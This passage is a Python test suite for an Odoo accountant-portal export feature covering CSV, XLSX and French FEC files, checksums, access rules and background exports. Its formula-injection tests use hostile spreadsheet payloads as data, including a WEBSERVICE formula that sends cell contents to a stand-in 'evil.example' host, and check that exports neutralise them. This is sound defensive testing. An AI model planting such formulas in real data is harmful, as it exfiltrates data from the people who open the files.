# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import csv
import hashlib
import io
import os
import re
import zipfile
from datetime import date, datetime
from unittest.mock import patch

import openpyxl

from odoo import Command, sql_db
from odoo.exceptions import AccessError
from odoo.tests import Form, JsonRpcException, new_test_user, tagged
from odoo.tools import mute_logger

from ..models.accountant_portal.accountant_batch_export import (
    EXPORT_LOCK_CLASS,
    EXPORT_SLOT_CLASS,
    EXPORT_SLOTS_PARAM,
    FEC_WIZARD,
)
from .test_accountant_portal import AccountantPortalCommon

EXPORT_MODULE = "odoo.addons.invoice_workflow_audit.models.accountant_portal.accountant_batch_export"
REQUEST_MODULE = "odoo.addons.invoice_workflow_audit.models.accountant_portal.accountant_export_request"

# The FEC's column names (article A47 A-1 of the French tax procedures book).
HEADER = [
    "JournalCode",
    "JournalLib",
    "EcritureNum",
    "EcritureDate",
    "CompteNum",
    "CompteLib",
    "CompAuxNum",
    "CompAuxLib",
    "PieceRef",
    "PieceDate",
    "EcritureLib",
    "Debit",
    "Credit",
    "EcheanceDate",
    "EcritureLet",
    "DateLet",
    "Montantdevise",
    "Idevise",
]
COLUMN = {name: index for index, name in enumerate(HEADER)}
AMOUNTS = (COLUMN["Debit"], COLUMN["Credit"], COLUMN["Montantdevise"])
FRENCH_AMOUNT = re.compile(r"^-?\d+,\d\d$")


def csv_rows(content):
    """The rows of a CSV as a French spreadsheet reads them."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


class AccountantExportsCommon(AccountantPortalCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # A draft dated in January: never exported.
        cls.january_draft = cls.init_invoice(
            "out_invoice", partner=cls.partner_a, invoice_date="2026-01-05", amounts=[55], taxes=[]
        )
        cls.january_draft.line_ids.filtered("display_type").name = "IWA DRAFT LINE"

    def setUp(self):
        super().setUp()
        self.authenticate(self.accountant.login, self.accountant.login)

    def _download(self, file_format="csv", status=200, company=None, **period):
        company = company or self.company
        data = {"csrf_token": self._csrf(self._url("/exports")), "file_format": file_format}
        data.update(period or {"period": "month", "month": "2026-01"})
        response = self.url_open(f"/my/accounting/{company.id}/exports/download", data=data)
        self.assertEqual(response.status_code, status)
        return response

    def _january_lines(self, date_from="2026-01-01", date_to="2026-01-31"):
        return (
            self.env["account.move.line"]
            .sudo()
            .search(
                [
                    ("company_id", "=", self.company.id),
                    ("parent_state", "=", "posted"),
                    ("date", ">=", date_from),
                    ("date", "<=", date_to),
                ]
            )
        )

    def _batches(self):
        self.env.invalidate_all()
        return self.env["invoice.accountant.batch"].sudo().search([], order="id")


@tagged("post_install", "-at_install")
class TestAccountantExports(AccountantExportsCommon):
    def test_csv_download_and_its_batch(self):
        page = self._get(self._url("/exports"))
        self.assertIn("No batch collected yet", page)
        self.assertIn('value="csv"', page)
        self.assertNotIn('value="fec"', page, "FEC: French companies only")

        response = self._download("csv")
        self.assertIn("attachment;", response.headers["Content-Disposition"])
        self.assertIn(".csv", response.headers["Content-Disposition"])
        rows = csv_rows(response.content)
        self.assertEqual(rows[0], HEADER)
        lines = self._january_lines()
        self.assertEqual(len(rows) - 1, len(lines))
        self.assertEqual({row[COLUMN["EcritureNum"]] for row in rows[1:]}, set(lines.move_id.mapped("name")))
        self.assertTrue(all(re.match(r"^\d\d/01/2026$", row[COLUMN["EcritureDate"]]) for row in rows[1:]))
        self.assertNotIn("IWA DRAFT LINE", response.text)
        self.assertNotIn(self.foreign_partner.name, response.text)
        # The invoice's receivable line with its code, partner and matching number.
        receivable = self.invoice_paid.line_ids.filtered(
            lambda line: line.account_id.account_type == "asset_receivable"
        )
        row = next(
            row
            for row in rows
            if row[COLUMN["EcritureNum"]] == self.invoice_paid.name
            and row[COLUMN["CompteNum"]] == receivable.account_id.code
        )
        self.assertEqual(row[COLUMN["CompAuxLib"]], self.partner_a.name)
        self.assertEqual(row[COLUMN["Debit"]], "1000,00")
        self.assertEqual(row[COLUMN["EcritureLet"]], str(receivable.full_reconcile_id.id), "paid: matched")
        self.assertEqual(
            row[COLUMN["DateLet"]], receivable.full_reconcile_id.create_date.strftime("%d/%m/%Y")
        )

        batch = self._batches()
        self.assertEqual(len(batch), 1)
        self.assertEqual(
            (batch.company_id, batch.file_format, batch.period_label, batch.state, batch.user_id),
            (self.company, "csv", "2026-01", "collected", self.accountant),
        )
        self.assertEqual(str(batch.date_from), "2026-01-01")
        self.assertEqual(str(batch.date_to), "2026-01-31")
        self.assertEqual(batch.line_count, len(lines))
        self.assertEqual(batch.move_count, len(lines.move_id))
        self.assertEqual(batch.checksum, hashlib.sha256(response.content).hexdigest())
        self.assertEqual(response.headers["X-Content-SHA256"], batch.checksum)
        self.assertEqual(batch.changed_count, 0)
        # Through the one logging path.
        row = self._log_rows(batch.sudo(), action_type="entries_exported")
        self.assertEqual(len(row), 1)
        self.assertEqual(row.user_id, self.accountant)
        self.assertIn(batch.checksum, row.description)
        # Named by company, period and format, not by its technical id.
        self.assertEqual(row.document_name, f"{self.company.name} — {batch.period_label} — CSV")
        # Listed on the page.
        page = self._get(self._url("/exports"))
        self.assertIn("o_accountant_batch", page)
        self.assertIn(batch.checksum, page)

    def test_batches_of_items_cover_the_period_once(self):
        """The keyset paging (5,000 items at a time in production) on 3 at a time:
        every item once, in order, whatever the batch boundaries."""
        whole = self._download("csv").content
        with patch(f"{EXPORT_MODULE}.EXPORT_BATCH_SIZE", 3):
            paged = self._download("csv").content
        self.assertEqual(paged, whole)
        first, second = self._batches()
        self.assertEqual((first.checksum, first.line_count), (second.checksum, second.line_count))

    def test_exports_page_in_french(self):
        fr = self.env["res.lang"]._activate_lang("fr_FR")
        self.env["ir.module.module"]._load_module_terms(
            ["portal", "invoice_workflow_audit"], [fr.code], overwrite=True
        )
        self.accountant.lang = "fr_FR"
        self.authenticate(self.accountant.login, self.accountant.login)
        page = self._get(self._url("/exports"))
        self.assertIn("Télécharger", page)
        self.assertIn("Aucun lot collecté", page)
        self.assertIn("Préparer en arrière-plan", page)
        self.assertIn("Le CSV suit les conventions françaises", page)

    def test_xlsx_download(self):
        response = self._download("xlsx", period="quarter", year="2026", quarter="1")
        workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
        rows = list(workbook.active.iter_rows(values_only=True))
        self.assertEqual(list(rows[0]), HEADER)
        lines = self._january_lines("2026-01-01", "2026-03-31")
        batch = self._batches()
        # Q1: January, the open invoice of February, the bank line of March.
        self.assertIn(self.invoice_open.line_ids[0], lines)
        self.assertIn(self.bank_line.move_id.line_ids[0], lines)
        self.assertEqual(len(rows) - 1, len(lines))
        self.assertEqual(batch.line_count, len(rows) - 1)
        self.assertEqual(batch.period_label, "2026-Q1")
        self.assertEqual(batch.checksum, hashlib.sha256(response.content).hexdigest())
        self.assertIn(self.invoice_open.name, {row[COLUMN["EcritureNum"]] for row in rows[1:]})

    def test_periods(self):
        self._download("csv", period="fiscal_year", year="2026")
        self._download("csv", period="custom", date_from="2026-01-10", date_to="2026-01-12")
        fiscal_year, custom = self._batches()
        self.assertEqual((str(fiscal_year.date_from), str(fiscal_year.date_to)), ("2026-01-01", "2026-12-31"))
        self.assertEqual(custom.move_count, 1, "the invoice of 10 January")
        # A period that cannot be read: nothing downloaded, said so.
        response = self._download("csv", period="custom", date_from="2026-02-01", date_to="2026-01-01")
        self.assertIn("The period ends before it starts", response.text)
        response = self._download("csv", period="month", month="garbage")
        self.assertIn("Choose a valid Month", response.text)
        self.assertEqual(len(self._batches()), 2)

    def test_changed_since_collected(self):
        self._download("csv")
        batch = self._batches()
        self.assertFalse(self._get(self._url("/exports")).count("Changed since collected"))
        # The back office resets one January entry, deletes another and
        # edits a February one (not in the period), after the download.
        self.authenticate(self.admin_user.login, self.admin_user.login)
        self._call_kw("account.move", "button_draft", self.bill.ids)
        self._call_kw("account.move", "button_draft", self.vendor_refund.ids)
        self._call_kw("account.move", "unlink", self.vendor_refund.ids)
        self._call_kw("account.move", "write", self.invoice_open.ids, {"ref": "IWA FEB EDIT"})
        self.env.invalidate_all()
        self.assertFalse(self.vendor_refund.exists())

        self.assertEqual(batch.changed_count, 2)
        self.assertIn(f"{self.bill.name} (2026-01-15): reset to draft", batch.changed_summary)
        self.assertIn("deleted", batch.changed_summary)
        self.authenticate(self.accountant.login, self.accountant.login)
        page = self._get(self._url("/exports"))
        self.assertIn("Changed since collected: 2 entries", page)
        self.assertIn(self.bill.name, page)
        # A new batch of the period starts clean again.
        self._download("csv")
        self.assertEqual(self._batches()[-1].changed_count, 0)

    def test_changed_entries_listed_are_bounded(self):
        # A period's batch may have thousands of entries changed since: the
        # page counts them all and lists the first twenty.
        self._download("csv")
        batch = self._batches()
        revenue = self.company_data["default_account_revenue"]
        receivable = self.company_data["default_account_receivable"]
        # Posted after the download, from the back office (a request of its own).
        self.authenticate(self.admin_user.login, self.admin_user.login)
        entry_ids = self._call_kw(
            "account.move",
            "create",
            [
                {
                    "move_type": "entry",
                    "date": "2026-01-20",
                    "ref": f"IWA LATE {i:02d}",
                    "line_ids": [
                        Command.create({"account_id": receivable.id, "balance": 1}),
                        Command.create({"account_id": revenue.id, "balance": -1}),
                    ],
                }
                for i in range(25)
            ],
        )
        self._call_kw("account.move", "action_post", entry_ids)
        self.authenticate(self.accountant.login, self.accountant.login)
        self.env.invalidate_all()
        entries = self.env["account.move"].browse(entry_ids)
        changes = batch._changed_entries(limit=3)[batch.id]
        self.assertEqual((changes["count"], len(changes["rows"])), (25, 3))
        self.assertEqual(batch.changed_count, 25)
        page = self._get(self._url("/exports"))
        self.assertIn("Changed since collected: 25 entries", page)
        self.assertEqual(sum(entry.name in page for entry in entries), 20)
        self.assertIn("and 5 more", page)

    def test_mark_integrated(self):
        self._download("csv")
        batch = self._batches()
        url = self._url(f"/exports/{batch.id}/integrated")
        with mute_logger("odoo.http"):
            self.assertEqual(self.url_open(url, data={"x": "1"}).status_code, 400, "no CSRF token")
        self.assertEqual(self._batches().state, "collected")
        response = self.url_open(url, data={"csrf_token": self._csrf(self._url("/exports"))})
        self.assertEqual(response.status_code, 200)
        self.assertIn("marked as integrated", response.text)
        batch = self._batches()
        self.assertEqual((batch.state, batch.integrated_user_id), ("integrated", self.accountant))

    def test_outsiders_and_other_companies_get_404(self):
        self._download("csv")
        token = self._csrf(self._url("/exports"))
        batch = self._batches()
        other = f"/my/accounting/{self.other_company.id}"
        self.assertEqual(self.url_open(other + "/exports").status_code, 404)
        data = {"csrf_token": token, "file_format": "csv", "period": "month", "month": "2026-01"}
        response = self.url_open(other + "/exports/download", data=data)
        self.assertEqual(response.status_code, 404)
        self.assertNotIn(self.foreign_partner.name, response.text)
        # The batch of the granted company through the other company's URL.
        response = self.url_open(other + f"/exports/{batch.id}/integrated", data={"csrf_token": token})
        self.assertEqual(response.status_code, 404)
        # An unknown format (FEC for a company that is not French).
        self.assertEqual(
            self.url_open(self._url("/exports/download"), data=dict(data, file_format="fec")).status_code, 404
        )
        # The ORM gives portal users no batch at all.
        with mute_logger("odoo.http"), self.assertRaises(JsonRpcException):
            self._call_kw("invoice.accountant.batch", "search_read", [], ["checksum"])
        self.authenticate(self.outsider.login, self.outsider.login)
        self.assertEqual(self.url_open(self._url("/exports")).status_code, 404)
        self.assertEqual(len(self._batches()), 1)

    def test_nobody_writes_a_batch(self):
        self._download("csv")
        batch = self._batches()
        manager_batch = batch.with_user(self.admin_user)
        self.assertEqual(manager_batch.move_count, batch.move_count, "accounting managers read")
        with self.assertRaises(AccessError):
            manager_batch.write({"move_count": 0})
        for values in ({"checksum": "0" * 64}, {"line_count": 1}, {"state": "integrated"}):
            with self.assertRaises(AccessError):
                batch.sudo().write(values)
        with self.assertRaises(AccessError):
            self.env["invoice.accountant.batch"].sudo().create(
                {"company_id": self.company.id, "date_from": "2026-01-01", "date_to": "2026-01-31"}
            )
        with self.assertRaises(AccessError):
            batch.sudo().unlink()
        with self.assertRaises(AccessError):
            batch.with_user(self.invoice_user).read(["checksum"])
        self.assertEqual(self._batches().checksum, batch.checksum)


@tagged("post_install", "-at_install")
class TestAccountantExportsFec(AccountantExportsCommon):
    """FEC comes from Odoo's own wizard (l10n_fr_account), offered only when the
    registry has it and the company is French."""

    def _make_french(self):
        france = self.env.ref("base.fr")
        self.company.write({"country_id": france.id, "account_fiscal_country_id": france.id})

    def test_fec_only_where_the_wizard_and_a_french_company_are(self):
        Export = self.env["invoice.accountant.batch.export"]
        self.assertNotIn("fec", Export._formats(self.company))
        self._make_french()
        self.assertEqual("fec" in Export._formats(self.company), FEC_WIZARD in self.env)

    def test_fec_download_is_odoo_own(self):
        self._make_french()
        if FEC_WIZARD not in self.env:
            # Without l10n_fr_account (./dev test): a French company gets no
            # FEC either, and the route refuses it. The download itself is
            # tested where the localisation is installed.
            self.assertNotIn('value="fec"', self._get(self._url("/exports")))
            self._download("fec", status=404)
            self.assertFalse(self._batches())
            return
        lock_date = self.company.fiscalyear_lock_date
        self.assertIn('value="fec"', self._get(self._url("/exports")))
        response = self._download("fec")
        batch = self._batches()
        self.assertEqual(batch.file_format, "fec")
        content = response.content.decode()
        # The wizard's own file: its header, its name, nothing but posted entries.
        expected = (
            self.env[FEC_WIZARD]
            .with_company(self.company)
            .with_context(allowed_company_ids=self.company.ids)
            .create({"date_from": "2026-01-01", "date_to": "2026-01-31", "test_file": True})
            .generate_fec()
        )
        self.assertEqual(response.content, expected["file_content"])
        self.assertTrue(content.startswith("JournalCode|JournalLib|EcritureNum|"))
        self.assertIn(self.invoice_paid.name, content)
        self.assertNotIn("IWA DRAFT LINE", content)
        self.assertEqual(batch.file_name, expected["file_name"])
        self.assertEqual(batch.checksum, hashlib.sha256(response.content).hexdigest())
        self.assertEqual(batch.line_count, len(self._january_lines()))
        self.env.invalidate_all()
        self.assertEqual(self.company.fiscalyear_lock_date, lock_date, "a download never locks the books")

    def test_fec_in_the_background_is_the_wizards_file_of_the_period(self):
        """In the background, one month of Odoo's FEC per call, merged: the
        same bytes as the wizard's file of the whole period."""
        self._make_french()
        q1 = {"period": "quarter", "year": "2026", "quarter": "1"}
        if FEC_WIZARD not in self.env:
            self._download("fec", status=404, background="1", **q1)
            self.assertFalse(self.env["invoice.accountant.export.request"].sudo().search([]))
            return
        direct = self._download("fec", **q1).content
        direct_batch = self._batches()
        # Items in each month of the quarter: the merge matters.
        for name in (self.invoice_paid.name, self.invoice_open.name, self.bank_line.move_id.name):
            self.assertIn(name, direct.decode())
        self._download("fec", background="1", **q1)
        Request = self.env["invoice.accountant.export.request"]
        request = Request.sudo().search([], order="id desc", limit=1)
        calls = 0
        while request.state in ("queued", "running") and calls < 10:
            Request._cron_process()
            calls += 1
        self.assertEqual((request.state, calls), ("done", 3), "one month per call")
        batch = request.batch_id
        self.assertEqual(batch.attachment_id.raw, direct)
        self.assertEqual(batch.checksum, direct_batch.checksum)
        self.assertEqual(
            (batch.file_name, batch.line_count, batch.move_count),
            (direct_batch.file_name, direct_batch.line_count, direct_batch.move_count),
        )


@tagged("post_install", "-at_install")
class TestAccountantExportsFormulaInjection(AccountantExportsCommon):
    """Partner names (set by customers on /my/account) and line labels (set by
    any invoicing user) end up in the file the accountant opens in a
    spreadsheet: they must stay text there, never become formulas."""

    LABELS = ("@SUM(1+1)", "+1+2", "-2+3")

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Partner = cls.env["res.partner"]
        cls.sum_partner = Partner.create({"name": "=1+1"})
        cls.link_partner = Partner.create({"name": '=HYPERLINK("http://evil.example","x")'})
        cls.labelled = cls._january_invoice(cls.sum_partner, [10, 20, 30], cls.LABELS)
        cls._january_invoice(cls.link_partner, [40], ["http://evil.example/click"])

    @classmethod
    def _january_invoice(cls, partner, amounts, labels):
        invoice = cls.init_invoice(
            "out_invoice", partner=partner, invoice_date="2026-01-28", amounts=amounts, taxes=[]
        )
        for line, label in zip(invoice.invoice_line_ids, labels, strict=True):
            line.name = label
        invoice.action_post()
        return invoice

    def _csv_rows(self):
        return csv_rows(self._download("csv").content)

    def _formulas(self, sheet_xml):
        return re.findall(r"<f[ >].*?</f>", sheet_xml)

    def _xlsx(self):
        content = self._download("xlsx").content
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
        return sheet_xml, rows

    def test_csv_text_cells_are_neutralised(self):
        rows = self._csv_rows()
        partners = {row[COLUMN["CompAuxLib"]] for row in rows[1:]}
        self.assertIn("'=1+1", partners)
        self.assertIn('\'=HYPERLINK("http://evil.example","x")', partners)
        labels = {row[COLUMN["EcritureLib"]] for row in rows[1:]}
        self.assertLessEqual({"'@SUM(1+1)", "'+1+2", "'-2+3"}, labels)
        self.assertIn("http://evil.example/click", labels, "text that is no formula is left as is")
        self.assertIn(self.partner_a.name, partners)
        # No text cell opens a formula; amounts are numbers, a negative one unquoted.
        for row in rows[1:]:
            for index, cell in enumerate(row):
                if index in AMOUNTS:
                    self.assertRegex(cell, FRENCH_AMOUNT)
                else:
                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), row)
        income = next(row for row in rows if row[COLUMN["EcritureLib"]] == "'+1+2")
        self.assertEqual([income[index] for index in AMOUNTS], ["0,00", "20,00", "-20,00"])
        self.assertEqual(income[COLUMN["EcritureNum"]], self.labelled.name)

    def test_xlsx_has_no_formula_and_keeps_text_and_numbers(self):
        sheet_xml, rows = self._xlsx()
        self.assertEqual(self._formulas(sheet_xml), [])
        self.assertEqual(list(rows[0]), HEADER)
        partners = {row[COLUMN["CompAuxLib"]] for row in rows[1:]}
        self.assertLessEqual({"=1+1", '=HYPERLINK("http://evil.example","x")'}, partners)
        labels = {row[COLUMN["EcritureLib"]] for row in rows[1:]}
        self.assertLessEqual({*self.LABELS, "http://evil.example/click"}, labels)
        # Amounts stay numbers the accountant can sum, dates stay dates.
        income = next(row for row in rows if row[COLUMN["EcritureLib"]] == "+1+2")
        self.assertEqual([income[index] for index in AMOUNTS], [0, 20, -20])
        self.assertIsInstance(income[COLUMN["EcritureDate"]], datetime)
        self.assertEqual(income[COLUMN["EcritureDate"]].date(), date(2026, 1, 28))
        for row in rows[1:]:
            self.assertTrue(all(isinstance(row[index], int | float) for index in AMOUNTS[:2]), row)
        # No hyperlink either (strings_to_urls off).
        self.assertNotIn("<hyperlink", sheet_xml)

    def test_customer_renamed_on_my_account(self):
        """The review's path: a portal customer names itself with a formula on
        /my/account, is invoiced, and the accountant downloads the period."""
        name = '=WEBSERVICE("http://evil.example/leak?"&A2&B2)'
        customer = new_test_user(self.env, login="iwa_formula_customer", groups="base.group_portal")
        self.authenticate(customer.login, customer.login)
        response = self.url_open(
            "/my/account",
            data={
                "csrf_token": self._csrf("/my/account"),
                "name": name,
                "email": "customer@example.com",
                "phone": "0102030405",
                "street": "1 rue de la Paix",
                "city": "Paris",
                "country_id": str(self.env.ref("base.fr").id),
            },
        )
        self.assertEqual(response.status_code, 200)
        self.assertEqual(customer.partner_id.name, name, "the portal saved the name")
        self._january_invoice(customer.partner_id, [70], ["Consulting"])

        self.authenticate(self.accountant.login, self.accountant.login)
        sheet_xml, rows = self._xlsx()
        self.assertEqual(self._formulas(sheet_xml), [])
        self.assertIn(name, {row[COLUMN["CompAuxLib"]] for row in rows[1:]})
        self.assertIn("'" + name, {row[COLUMN["CompAuxLib"]] for row in self._csv_rows()[1:]})


@tagged("post_install", "-at_install")
class TestAccountantExportsFrenchFiles(AccountantExportsCommon):
    """What a French accounting firm imports: semicolons, decimal commas, the
    FEC's column names, one line per journal item, the auxiliary account, the
    piece reference, the due date."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.partner_a.ref = "CLI|001"
        cls.multiline = cls.init_invoice(
            "out_invoice", partner=cls.partner_a, invoice_date="2026-01-29", amounts=[5103], taxes=[]
        )
        cls.multiline.invoice_line_ids.name = "Audit\nJanuary\r\n\tclosing"
        cls.multiline.ref = "PO 4521"
        cls.multiline.action_post()

    def _row(self, rows, move, account_types):
        line = move.line_ids.filtered(lambda line: line.account_id.account_type in account_types)[:1]
        row = next(
            row
            for row in rows
            if row[COLUMN["EcritureNum"]] == move.name and row[COLUMN["CompteNum"]] == line.account_id.code
        )
        return line, row

    def test_csv_follows_french_conventions(self):
        content = self._download("csv").content
        self.assertTrue(content.startswith(b"\xef\xbb\xbf"), "UTF-8 with its BOM, as Excel expects")
        rows = csv_rows(content)
        self.assertEqual(rows[0], HEADER)
        # One line per journal item: no line break inside any field.
        self.assertEqual(len(rows) - 1, len(self._january_lines()))
        self.assertEqual(content.count(b"\r\n"), len(rows))
        self.assertNotIn(b"\n", content.replace(b"\r\n", b""))
        self.assertNotIn(b"\r", content.replace(b"\r\n", b""))
        for row in rows[1:]:
            self.assertEqual(len(row), len(HEADER))
            self.assertTrue(all("\n" not in cell and "\r" not in cell for cell in row), row)
            self.assertRegex(row[COLUMN["Debit"]], FRENCH_AMOUNT)
            self.assertRegex(row[COLUMN["Credit"]], FRENCH_AMOUNT)

        income, row = self._row(rows, self.multiline, ("income",))
        self.assertEqual(row[COLUMN["EcritureLib"]], "Audit January closing")
        self.assertEqual((row[COLUMN["Debit"]], row[COLUMN["Credit"]]), ("0,00", "5103,00"))
        self.assertEqual((row[COLUMN["Montantdevise"]], row[COLUMN["Idevise"]]), ("-5103,00", "USD"))
        self.assertEqual((row[COLUMN["CompAuxNum"]], row[COLUMN["CompAuxLib"]]), ("", ""), "not on income")
        self.assertEqual(row[COLUMN["JournalCode"]], income.journal_id.code)
        self.assertEqual(row[COLUMN["JournalLib"]], income.journal_id.name)
        self.assertEqual(row[COLUMN["CompteLib"]], income.account_id.name)

        receivable, row = self._row(rows, self.multiline, ("asset_receivable",))
        self.assertEqual(row[COLUMN["Debit"]], "5103,00")
        # The auxiliary account as Odoo's FEC gives it: the partner's reference, "|" as "/".
        self.assertEqual(row[COLUMN["CompAuxNum"]], "CLI/001")
        self.assertEqual(row[COLUMN["CompAuxLib"]], self.partner_a.name)
        self.assertEqual(row[COLUMN["PieceRef"]], "PO 4521")
        self.assertEqual(
            (row[COLUMN["EcritureDate"]], row[COLUMN["PieceDate"]]), ("29/01/2026", "29/01/2026")
        )
        self.assertEqual(row[COLUMN["EcheanceDate"]], receivable.date_maturity.strftime("%d/%m/%Y"))
        self.assertEqual((row[COLUMN["EcritureLet"]], row[COLUMN["DateLet"]]), ("", ""), "not paid")

        # A partner without reference: its id. A document without reference: its number.
        _payable, row = self._row(rows, self.bill, ("liability_payable",))
        self.assertEqual(row[COLUMN["CompAuxNum"]], str(self.partner_b.id))
        _receivable, row = self._row(rows, self.invoice_paid, ("asset_receivable",))
        self.assertEqual(row[COLUMN["PieceRef"]], self.invoice_paid.ref or self.invoice_paid.name)

    def test_xlsx_has_the_same_columns_on_one_line(self):
        content = self._download("xlsx").content
        rows = list(
            openpyxl.load_workbook(io.BytesIO(content), read_only=True).active.iter_rows(values_only=True)
        )
        self.assertEqual(list(rows[0]), HEADER)
        labels = {row[COLUMN["EcritureLib"]] for row in rows[1:]}
        self.assertIn("Audit January closing", labels)
        receivable = next(
            row
            for row in rows[1:]
            if row[COLUMN["EcritureNum"]] == self.multiline.name and row[COLUMN["Debit"]]
        )
        self.assertEqual((receivable[COLUMN["Debit"]], receivable[COLUMN["CompAuxNum"]]), (5103, "CLI/001"))


@tagged("post_install", "-at_install")
class TestAccountantExportsKeptFiles(AccountantExportsCommon):
    """Each batch keeps its file: the accountant downloads the very same bytes
    again, checked against the SHA-256 recorded when it was produced."""

    def test_download_again_gives_the_same_bytes(self):
        for file_format in ("csv", "xlsx"):
            first = self._download(file_format)
            batch = self._batches()[-1]
            self.assertEqual(
                (batch.attachment_id.res_model, batch.attachment_id.res_id), (batch._name, batch.id)
            )
            # Stored where Odoo stores attachments, as Odoo would have stored it.
            attachment = batch.attachment_id
            self.assertEqual(attachment.raw, first.content)
            self.assertEqual(attachment.file_size, len(first.content))
            self.assertEqual(attachment.checksum, hashlib.sha1(first.content).hexdigest())
            self.assertTrue(attachment.store_fname.endswith(attachment.checksum))
            url = self._url(f"/exports/{batch.id}/download")
            self.assertIn(url, self._get(self._url("/exports")))
            again = self.url_open(url)
            self.assertEqual(again.status_code, 200)
            self.assertEqual(again.content, first.content)
            self.assertEqual(again.headers["X-Content-SHA256"], batch.checksum)
            self.assertEqual(again.headers["Content-Type"], first.headers["Content-Type"])
            self.assertEqual(again.headers["Content-Disposition"], first.headers["Content-Disposition"])
        self.assertEqual(len(self._batches()), 2, "nothing collected again")
        # The books change: the kept file stays the one collected.
        self.bill.with_user(self.admin_user).button_draft()
        self.assertEqual(self.url_open(url).content, again.content)
        # Not through another company's URL, not for an outsider.
        other = f"/my/accounting/{self.other_company.id}/exports/{batch.id}/download"
        self.assertEqual(self.url_open(other).status_code, 404)
        self.authenticate(self.outsider.login, self.outsider.login)
        self.assertEqual(self.url_open(url).status_code, 404)

    def test_altered_file_is_refused(self):
        original = self._download("csv").content
        batch = self._batches()
        attachment = batch.attachment_id
        self.assertTrue(attachment.store_fname)
        path = attachment._full_path(attachment.store_fname)

        def restore():
            with open(path, "wb") as file:
                file.write(original)

        self.addCleanup(restore)
        with open(path, "wb") as file:
            file.write(original.replace(b"1000,00", b"9000,00"))
        response = self.url_open(self._url(f"/exports/{batch.id}/download"))
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.url.endswith(self._url("/exports")))
        self.assertIn("no longer matches its SHA-256 checksum", response.text)
        self.assertNotIn("9000,00", response.text)
        # Nor deleted, by anyone.
        with self.assertRaises(AccessError):
            attachment.sudo().unlink()
        self.assertTrue(attachment.exists())


@tagged("post_install", "-at_install")
class TestAccountantExportsChangedFlag(AccountantExportsCommon):
    """A batch is "changed since collected" when the accounting of its period
    changed, not when the accountant works on its documents."""

    def test_processed_and_emails_do_not_flag_a_batch(self):
        self._download("csv")
        token = self._csrf(self._url("/out_invoice"))
        for move in (self.invoice_paid, self.bill):
            response = self.url_open(
                self._url(f"/document/{move.id}/processed"), data={"processed": "1", "csrf_token": token}
            )
            self.assertEqual(response.status_code, 200)
        response = self.url_open(
            self._url(f"/document/{self.invoice_paid.id}/send"), data={"csrf_token": token}
        )
        self.assertIn("was e-mailed to", response.text)
        batch = self._batches()
        self.assertTrue(self.bill.accountant_processed)
        self.assertGreaterEqual(self.bill.write_date, batch.date, "written after the download")
        self.assertEqual(batch.changed_count, 0)
        self.assertNotIn("Changed since collected", self._get(self._url("/exports")))

        # A line's amount changes in the back office: reset to draft, edited,
        # posted again (over JSON-RPC, as the web client does).
        self.authenticate(self.admin_user.login, self.admin_user.login)
        line = self.bill.invoice_line_ids[0]
        self._call_kw("account.move", "button_draft", self.bill.ids)
        self._call_kw(
            "account.move",
            "write",
            self.bill.ids,
            {"invoice_line_ids": [Command.update(line.id, {"price_unit": 350})]},
        )
        self._call_kw("account.move", "action_post", self.bill.ids)
        self.authenticate(self.accountant.login, self.accountant.login)
        self.assertEqual(self.bill.amount_total, 350)
        batch = self._batches()
        self.assertEqual(batch.changed_count, 1)
        self.assertIn(f"{self.bill.name} (2026-01-15): posted or modified", batch.changed_summary)
        self.assertIn("Changed since collected: 1 entries", self._get(self._url("/exports")))

    def test_an_accounting_write_stamps_the_entry(self):
        """Each door stamps: the journal items' amounts written on an entry
        posted before, not only its state."""
        bill = self.bill.with_user(self.admin_user)
        bill.button_draft()
        self.env.cr.flush()
        self.env.cr.execute("UPDATE account_move SET accountant_changed_at = NULL WHERE id = %s", [bill.id])
        self.env.invalidate_all()
        bill.write({"narration": "<p>A note</p>"})
        bill.message_post(body="A note")
        self.env.cr.flush()  # as the commit does: its precommit hooks stamp
        self.env.invalidate_all()
        self.assertFalse(self.bill.accountant_changed_at, "no accounting change")
        with Form(bill) as form, form.invoice_line_ids.edit(0) as line:
            line.price_unit = 360
        self.env.cr.flush()
        self.env.invalidate_all()
        self.assertTrue(self.bill.accountant_changed_at)
        # Nobody sets the stamp through the ORM.
        with self.assertRaises(AccessError):
            bill.write({"accountant_changed_at": False})
        # A draft never posted is in no batch: not stamped.
        self.assertFalse(self.january_draft.accountant_changed_at)


@tagged("post_install", "-at_install")
class TestAccountantExportsBackground(AccountantExportsCommon):
    """A download inside the HTTP request is capped and one at a time; larger
    periods are written by the scheduled action, in chunks, and recorded as
    a batch only once the file is complete."""

    def _queue(self, file_format="csv", **period):
        response = self._download(
            file_format, background="1", **(period or {"period": "month", "month": "2026-01"})
        )
        return response

    def _requests(self):
        self.env.invalidate_all()
        return self.env["invoice.accountant.export.request"].sudo().search([], order="id")

    def _run_cron(self, calls=50):
        """Call the scheduled action as Odoo's cron runner does, until nothing is left."""
        Request = self.env["invoice.accountant.export.request"]
        for _call in range(calls):
            if not Request.sudo().search_count([("state", "in", ("queued", "running"))]):
                return
            Request._cron_process()
        self.fail("the background export never finished")

    def test_direct_download_is_capped(self):
        with patch.dict(f"{EXPORT_MODULE}.INTERACTIVE_MAX_ITEMS", {"csv": 3}):
            response = self._download("csv")
        self.assertIn("more than 3 journal items", response.text)
        self.assertIn("Prepare in the background", response.text)
        self.assertFalse(self._batches(), "nothing collected")
        response = self._download("csv", period="custom", date_from="2024-01-01", date_to="2026-01-31")
        self.assertIn("at most 366 days", response.text)
        self.assertFalse(self._batches())
        # Within the caps, the same download goes through.
        self._download("csv", period="custom", date_from="2025-02-01", date_to="2026-01-31")
        self.assertEqual(len(self._batches()), 1)

    def test_one_export_at_a_time(self):
        # Another worker holds this accountant's export lock (a real second
        # connection: advisory locks are per session; the test's own requests
        # share the test's transaction, and keep what they lock until its end).
        other = sql_db.db_connect(self.env.cr.dbname).cursor()
        self.addCleanup(other.close)
